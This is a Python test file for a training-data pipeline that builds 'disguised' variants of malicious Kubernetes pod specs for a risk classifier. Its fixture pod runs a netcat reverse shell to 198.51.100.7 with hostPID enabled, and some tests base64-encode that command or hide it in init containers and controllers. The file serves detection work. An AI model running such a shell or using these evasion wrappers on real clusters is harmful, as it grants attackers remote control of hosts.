"""Attacks in other clothes: still the same attack, and nothing else is changed."""

from base64 import b64decode
from copy import deepcopy
from typing import Any

import pytest

from policies import resource
from policies.risk.training import dataset, disguise
from policies.risk.training.dataset import of_object
from policies.risk.training.disguise import DISGUISES, encoded, in_init_containers, mirrored, padded, wrapped
from policies.risk.training.synthetic import pod_spec

SHELL = {"name": "a", "image": "docker.io/library/alpine", "command": ["sh", "-c"], "args": ["nc -e sh 198.51.100.7 1"]}
SPEC: dict[str, Any] = {"hostPID": True, "containers": [SHELL], "initContainers": [{"name": "i", "image": "busybox"}]}
POD = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": SPEC}
JOB = {"spec": {"template": {"spec": {**SPEC, "restartPolicy": "Never"}}}}
CRON = {
    "apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "c"},
    "spec": {"schedule": "* * * * *", "jobTemplate": JOB},
}  # fmt: skip


def features(obj: dict[str, Any]) -> dict[str, int]:
    return of_object(obj, "test", True, "attack", "").features


@pytest.mark.parametrize("name", DISGUISES)
@pytest.mark.parametrize("obj", [POD, CRON], ids=["Pod", "CronJob"])
def test_what_comes_out_can_be_read_and_what_goes_in_stays(name: str, obj: dict[str, Any]) -> None:
    before = deepcopy(obj)
    changed = DISGUISES[name](obj)

    assert obj == before
    assert resource.read(changed).pods
    assert pod_spec(changed)["hostPID"] is True


def test_a_wrapped_pod_has_a_controller_and_is_the_same() -> None:
    changed = wrapped(POD)

    assert (changed["kind"], pod_spec(changed)) == ("Deployment", SPEC)
    assert set(features(POD)) - set(features(changed)) == {"naked_pod", "naked_pod_with_power"}


def test_everything_that_runs_is_moved_to_init_containers() -> None:
    spec = pod_spec(in_init_containers(POD))

    assert [each["name"] for each in spec["initContainers"]] == ["i", "a"]
    assert [each["name"] for each in spec["containers"]] == ["web"]


@pytest.mark.parametrize("name", ["as it is", "tidied: tags, limits, probes, labels"])
def test_tidiness_is_not_seen(name: str) -> None:
    assert features(DISGUISES[name](POD)) == features(POD)


def test_padding_takes_nothing_away() -> None:
    before, after = features(POD), features(padded(POD))

    assert all(after[feature] >= value for feature, value in before.items())


def test_a_hidden_command_is_the_same_command() -> None:
    [container] = pod_spec(encoded(POD))["containers"]

    assert container["command"] == ["sh", "-c"]
    assert b64decode(container["args"][0].split()[1]) == b"sh -c 'nc -e sh 198.51.100.7 1'"


def test_a_mirrored_image_keeps_its_name() -> None:
    assert pod_spec(mirrored(POD))["containers"][0]["image"] == "registry.corp.example/mirror/alpine"


def test_rows_to_learn_from_are_marked_and_go_with_what_they_were_made_of() -> None:
    row = of_object(POD, "a/b@0123:x.yaml#0", True, "attack", "c1", "reverse-shell")
    made = list(disguise.rows([(row, POD)]))

    assert [each.source for each in made] == [
        f"a/b@disguised:0123:x.yaml#0/{name}" for name in ("wrapped", "in_init_containers", "private")
    ]
    for each in made:
        assert (each.synthetic, each.label, each.klass, each.family) == (True, True, "disguised", "reverse-shell")
        assert (each.repository, each.cluster) == (row.repository, row.cluster)
    assert "naked_pod" not in made[0].features
    assert "waits_in_base_image" in row.features
    assert "waits_in_base_image" not in made[2].features


def test_every_shipped_attack_is_disguised_in_every_way_that_is_learned_from() -> None:
    shipped = dataset.shipped()
    attacks = [row.source.partition("@")[2] for row in shipped if row.label and not row.synthetic]
    made = [row.source.partition("@disguised:")[2] for row in shipped if row.klass == dataset.DISGUISED]

    assert made == [f"{attack}/{change.__name__}" for attack in attacks for change in disguise.LEARNED]
